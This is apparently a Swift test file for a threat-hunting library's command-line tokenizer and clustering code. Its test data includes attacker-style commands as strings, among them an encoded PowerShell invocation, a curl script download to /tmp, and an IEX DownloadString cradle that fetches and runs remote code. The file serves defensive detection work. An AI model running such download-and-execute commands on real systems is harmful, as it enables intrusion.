import Hunt
import Testing

@Suite("Shapes of command lines and messages")
struct ShapeTests {
  @Test(
    "what differs from event to event is its class",
    arguments: [
      ("powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", ["powershell.exe", "-enc", "<base64>"]),
      (
        #"C:\Windows\System32\rundll32.exe C:\Windows\Temp\x.dll,Run"#,
        ["<system path>.exe", "<temp path>.dll", ",", "run"]
      ),
      ("curl http://203.0.113.7/a.sh -o /tmp/a.sh", ["curl", "<url>", "-o", "<temp path>.sh"]),
      ("{3EB3C877-1F16-487C-9050-104DBCD66683}", ["<guid>"]),
      ("0xffffffff deadbeef01 4711 10.0.0.1", ["<hex>", "<hex>", "<num>", "<ip>"]),
      ("2024-05-01T09:14:07Z sshd: Failed for S-1-5-18", ["<time>", "sshd", "failed", "for", "<sid>"]),
      (#"net user "Jane Doe" /add /domain:corp"#, ["net", "user", "<text>", "/add", "/domain:", "corp"]),
      ("--type=renderer id42x", ["--type=", "renderer", "id#x"]),
      (#""C:\Program Files\a b\c.exe" x"#, ["<program path>.exe", "x"]),
      ("", []), ("   ", []), (#"""#, []),
    ])
  func tokens(text: String, expected: [String]) {
    #expect(ShapeTokenizer().tokens(text) == expected)
  }

  @Test("code in quotes is cut like the rest")
  func code() {
    let tokens = ShapeTokenizer().tokens(
      #"powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://a.b/c')""#)
    #expect(tokens.contains("<url>") && tokens.contains("new-object") && !tokens.contains("<text>"))
  }

  @Test("a text with very many words ends in one token for the rest")
  func long() {
    let tokens = ShapeTokenizer().tokens(String(repeating: "word ", count: 5000))
    #expect(tokens.count == ShapeTokenizer.maximumTokens + 1 && tokens.last == ShapeTokenizer.more)
  }

  private static func table(_ texts: [String]) -> ShapeTable {
    var table = ShapeTable()
    for (row, text) in texts.enumerated() {
      table.add(
        text: text, program: ShapeTokenizer.program(ofCommandLine: text), host: "h\(row % 3)", time: nil)
    }
    return table
  }

  @Test("words that differ are joined, switches and verbs never")
  func templates() {
    let found = ShapeClusters(
      Self.table([
        "svchost.exe -k netsvcs -s wuauserv", "svchost.exe -k netsvcs -s schedule", "net user alice x",
        "net stop alice x", "net user alice x /add", "net user bob x",
      ]))
    let groups = Dictionary(grouping: found.clusterOfRow.indices) { found.clusterOfRow[$0] }.values.sorted {
      $0[0] < $1[0]
    }
    #expect(groups == [[0, 1], [2, 5], [3], [4]])
    let joined = found.clusters[Int(found.clusterOfRow[2])]
    #expect(joined.template == ["net", "user", "<*>", "x"])
  }

  @Test("clusters come smallest first, rows alone are -1, numbers follow first rows")
  func order() {
    let found = ShapeClusters(Self.table(["a.exe 1", "b.exe /x", "a.exe 2", "c.exe", "c.exe", "c.exe"]))
    #expect(found.clusters.map(\.size) == [1, 2, 3])
    #expect(found.clusters.map(\.number) == [-1, 0, 1])
    #expect(found.clusterOfRow == [1, 0, 1, 2, 2, 2])
  }

  @Test("the likest other cluster is named with the words of each side alone")
  func nearest() throws {
    let plain = Array(repeating: "p.exe -file run.ps1 -noprofile", count: 5)
    let found = ShapeClusters(Self.table(plain + ["p.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA -noprofile"]))
    let nearest = try #require(found.nearest(of: 0))
    #expect(found.clusters[nearest.cluster].size == 5)
    #expect(Set(nearest.onlyHere) == ["-enc", "<base64>"] && Set(nearest.onlyThere) == ["-file", "run.ps#"])
    #expect(nearest.distance > 0.5 && nearest.distance < 1)
  }

  @Test("which rows are together does not depend on their order", arguments: 0..<10)
  func orderDoesNotMatter(seed: UInt64) {
    var random = SplitMix64(seed: seed)
    let words = ["alpha", "beta", "gamma", "delta", "-a", "-b", "/c:", "12", #"C:\Temp\a.exe"#]
    let texts = (0..<300).map { _ in
      "prog\(random.next() % 3).exe "
        + (0..<Int(random.next() % 6)).map { _ in words[Int(random.next() % UInt64(words.count))] }.joined(
          separator: " ")
    }
    let order = texts.indices.shuffled(using: &random)
    let straight = ShapeClusters(Self.table(texts)).clusterOfRow
    let shuffled = ShapeClusters(Self.table(order.map { texts[$0] })).clusterOfRow
    var back = Array(repeating: Int32(0), count: texts.count)
    for (position, row) in order.enumerated() { back[row] = shuffled[position] }
    // The same pairs are together: each label of one goes with one of the other.
    let pairs = Set(zip(straight, back).map { [$0, $1] })
    #expect(pairs.count == Set(straight).count && pairs.count == Set(back).count)
  }
}
